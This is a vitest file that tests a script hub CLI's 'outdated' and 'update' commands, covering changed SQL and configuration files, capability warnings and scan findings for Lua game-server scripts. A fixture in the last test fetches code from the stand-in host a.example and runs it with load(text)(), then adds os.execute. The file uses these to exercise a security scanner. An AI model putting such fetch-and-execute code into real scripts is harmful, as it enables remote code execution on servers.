import { writeFile } from 'node:fs/promises'
import { expect, test } from 'vitest'

import { resourceFiles } from '#test-support/game-server.ts'
import { startHubProxy } from '#test-support/hub-proxy.ts'
import { createOutdatedServer } from '#test-support/outdated-server.ts'
import { zipOf } from '#test-support/archives/zip.ts'
import { startTestApp } from '#test-support/test-app.ts'

const app = await startTestApp()
const author = await app.createUser('scripts.upload', 'scripts.download')

test('outdated and update list changed SQL and configuration between the two versions', async () => {
  const { server, name, file, publish } = await createOutdatedServer(
    app,
    author,
    { 'config.lua': 'Config = { Price = 11 }\n', 'sql/more.sql': 'create table more (id int);\n' },
    { 'locales/en.lua': "Locale = 'en'\n", 'server.lua': "print('first')\n" },
  )
  await publish('1.2.0', {
    'config.lua': 'Config = { Price = 12 }\n',
    'sql/pier.sql': 'create table pier (id bigint);\n',
    'data/prices.lua': 'return {}\n',
  })
  await writeFile(
    server.path('scripthaven.json'),
    JSON.stringify({
      ...JSON.parse(await server.read('scripthaven.json')),
      configuration: [`${name}/data/*.lua`],
    }),
  )

  const { code, stdout } = await server.run('outdated')
  const [update] = JSON.parse((await server.run('outdated', '--json')).stdout)

  expect(code).toBe(1)
  expect(stdout).toContain(`  SQL: ${name}/sql/pier.sql (changed)\n`)
  expect(stdout).toContain(
    `  configuration: ${name}/config.lua (changed), ${name}/data/prices.lua (added), and ${name}/locales/en.lua (removed)\n`,
  )
  expect(update).toMatchObject({
    from: '1.0.0',
    to: '1.2.0',
    sql: [{ path: `${name}/sql/pier.sql`, change: 'changed' }],
    configuration: [{ change: 'changed' }, { change: 'added' }, { change: 'removed' }],
  })
  expect((await server.run('update', '--yes')).stdout).toContain(`  SQL: ${name}/sql/pier.sql (changed)\n`)
  expect(await server.read(file('config.lua'))).toContain('12')
})

test('what a version gained is compared with the installed one, not with those between', async () => {
  const { server, publish } = await createOutdatedServer(app, author, {
    'server.lua': "PerformHttpRequest('https://a.example', print)\n",
  })
  await publish('1.2.0', {})

  const [update] = JSON.parse((await server.run('outdated', '--json')).stdout)

  expect(update).toMatchObject({ to: '1.2.0', gained: [] })
  expect(await server.run('update', '--yes')).toMatchObject({ code: 0, stderr: '' })
})

/** A version that the hub has not read yet. */
async function uploadUnread(id: number, name: string, number: string): Promise<void> {
  const form = new FormData()
  form.set('number', number)
  const files = { 'server.lua': "PerformHttpRequest('https://a.example', print)\n" }
  form.set('scriptFile', new Blob([new Uint8Array(zipOf(resourceFiles(name, { files })))]), `${number}.zip`)
  const { status } = await app.request(author, 'POST', `/api/scripts/${id}/versions`, form)
  expect(status).toBe(201)
}

test('a version that is not scanned yet needs an answer of its own', async () => {
  const { server, id, name } = await createOutdatedServer(app, author, {})
  await uploadUnread(id, name, '1.2.0')

  const refused = await server.run('update', '--yes')

  expect([refused.code, refused.stdout, refused.stderr]).toEqual([
    3,
    expect.stringContaining('not scanned yet'),
    expect.stringContaining('may do more than before: the hub has not compared the versions.'),
  ])
  expect(JSON.parse(await server.read('scripthaven.lock')).scripts[id].version).toBe('1.0.0')
  expect(await server.run('update', '--yes', '--accept-capabilities')).toMatchObject({ code: 0 })
})

test.each<[string, (path: string, text: string) => unknown, string, string[]]>([
  [
    'not among the listed versions',
    (path, text) => (path.includes('/versions?') ? { ...JSON.parse(text), versions: [] } : undefined),
    'can do more than before',
    ['calls-out: a.example'],
  ],
  [
    'not on the hub any more',
    (path) => (path.includes('/changes') ? { error: 'Not found' } : undefined),
    'may do more than before',
    ['calls-out'],
  ],
])('capabilities are asked for when the installed version is %s', async (_, answer, warning, gained) => {
  const { server } = await createOutdatedServer(app, author, {
    'server.lua': "PerformHttpRequest('https://a.example', print)\n",
  })
  const proxy = await startHubProxy(app.url, (path, text) => {
    const changed = answer(path, text)
    if (changed === undefined) return { text }
    return { status: path.includes('/changes') ? 404 : 200, text: JSON.stringify(changed) }
  })
  for (const path of ['scripthaven.json', 'scripthaven.lock'])
    await server.write(path, (await server.read(path)).replace(app.url, proxy.url))

  const [update] = JSON.parse((await server.run('outdated', '--json')).stdout)

  expect(update.gained).toEqual(gained)
  expect(await server.run('update', '--yes')).toMatchObject({
    code: 3,
    stderr: expect.stringContaining(warning),
  })
})

test('findings that the installed version has are not new', async () => {
  const downloads = "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n"
  const { server, publish } = await createOutdatedServer(
    app,
    author,
    { 'server.lua': downloads, 'more.lua': 'return 1\n' },
    { 'server.lua': downloads },
  )
  const titles = async () => JSON.parse((await server.run('outdated', '--json')).stdout)[0].newFindings

  expect(await titles()).toEqual([])
  await publish('1.2.0', { 'server.lua': `${downloads}os.execute('ls')\n` })
  expect(await titles()).toEqual([expect.stringMatching(/^(high|medium|low): /)])
  expect((await server.run('outdated')).stdout).toMatch(/\n {2}new findings: (high|medium|low): /)
})
